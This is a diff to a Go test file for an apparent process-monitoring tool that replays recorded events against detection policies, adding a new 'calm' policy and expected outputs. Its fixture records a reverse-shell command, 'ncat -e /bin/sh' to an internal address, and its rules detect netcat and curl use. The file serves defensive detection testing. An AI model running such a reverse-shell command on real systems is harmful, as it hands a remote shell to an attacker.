@@ -15,7 +15,7 @@ import (
 	"github.com/procession-dev/procession/internal/recording"
 )
 
-// record writes a recording: bash runs ncat, curl, and ncat again.
+// record writes a recording: bash runs ncat, curl, and ncat twice again.
 func record(t *testing.T, file string) {
 	t.Helper()
 	const second = uint64(time.Second)
@@ -40,7 +40,7 @@ func record(t *testing.T, file string) {
 	}
 	check(w.Process(&recording.Baseline{PID: 1, Facts: facts(0, "systemd")}))
 	check(w.Process(&recording.Baseline{PID: 50, Facts: facts(1, "bash")}))
-	for i, args := range [][]string{{"ncat", "-e", "/bin/sh", "10.0.0.9"}, {"curl", "http://x/"}, {"ncat", "-l"}} {
+	for i, args := range [][]string{{"ncat", "-e", "/bin/sh", "10.0.0.9"}, {"curl", "http://x/"}, {"ncat", "-l"}, {"ncat", "-l"}} {
 		at, child := h.Stamp+uint64(i+1)*second, int32(100+i)
 		check(w.Record(&event.Record{Kind: event.Fork, Stamp: at, PID: 50, TGID: 50, PeerPID: child, PeerTGID: child}))
 		check(w.Record(&event.Record{Kind: event.Exec, Stamp: at + 1000, PID: child, TGID: child, Facts: facts(50, args...)}))
@@ -67,6 +67,14 @@ spec:
     - {name: netcat, events: [Exec], severity: Critical, condition: "process.name == 'ncat' && process.args.exists(a, a == '-e')", messageExpression: "'netcat: ' + process.cmdline"}
     - {name: web, events: [Exec], severity: Low, mode: DryRun, condition: process.cmdline.contains('http://')}
 `
+	calmRules = `apiVersion: procession.dev/v1alpha1
+kind: ClusterDetectionPolicy
+metadata: {name: p}
+spec:
+  rules:
+    - {name: netcat, events: [Exec], severity: High, condition: process.name == 'ncat', messageExpression: "'netcat: ' + process.cmdline", aggregate: {window: 10m}}
+    - {name: download, events: [Exec], severity: Low, condition: process.name == 'curl'}
+`
 )
 
 func TestReplayScript(t *testing.T) {
@@ -76,7 +84,7 @@ func TestReplayScript(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	for name, data := range map[string]string{"old.yaml": oldRules, "new.yaml": newRules, "cut.rec": string(whole[:len(whole)-2]),
+	for name, data := range map[string]string{"old.yaml": oldRules, "new.yaml": newRules, "calm.yaml": calmRules, "cut.rec": string(whole[:len(whole)-2]),
 		"damaged.rec": string(whole[:len(whole)-2]) + "xx", "broken.yaml": strings.Replace(oldRules, "process.name", "process.nmae", 1)} {
 		if err := os.WriteFile(filepath.Join(dir, name), []byte(data), 0o644); err != nil {
 			t.Fatal(err)
@@ -87,6 +95,7 @@ func TestReplayScript(t *testing.T) {
 		"procession policy replay day.rec --policies old.yaml",
 		"procession policy replay day.rec --policies new.yaml --against old.yaml",
 		"procession policy replay day.rec --policies old.yaml --against old.yaml",
+		"procession policy replay day.rec --policies calm.yaml --against old.yaml",
 		"procession policy replay day.rec --policies old.yaml --limit 1",
 		"procession policy replay day.rec --policies broken.yaml",
 		"procession policy replay damaged.rec --policies old.yaml",
@@ -145,6 +154,7 @@ func TestReplayJSON(t *testing.T) {
 		`{"change":"changed","rule":"ClusterDetectionPolicy//p/netcat","dryRun":false`,
 		`{"change":"added","rule":"ClusterDetectionPolicy//p/web","dryRun":true`,
 		`{"change":"removed","rule":"ClusterDetectionPolicy//p/download","dryRun":false`,
+		`{"change":"removed","rule":"ClusterDetectionPolicy//p/netcat","dryRun":false`,
 		`{"change":"removed","rule":"ClusterDetectionPolicy//p/netcat","dryRun":false`,
 		"summary",
 	}
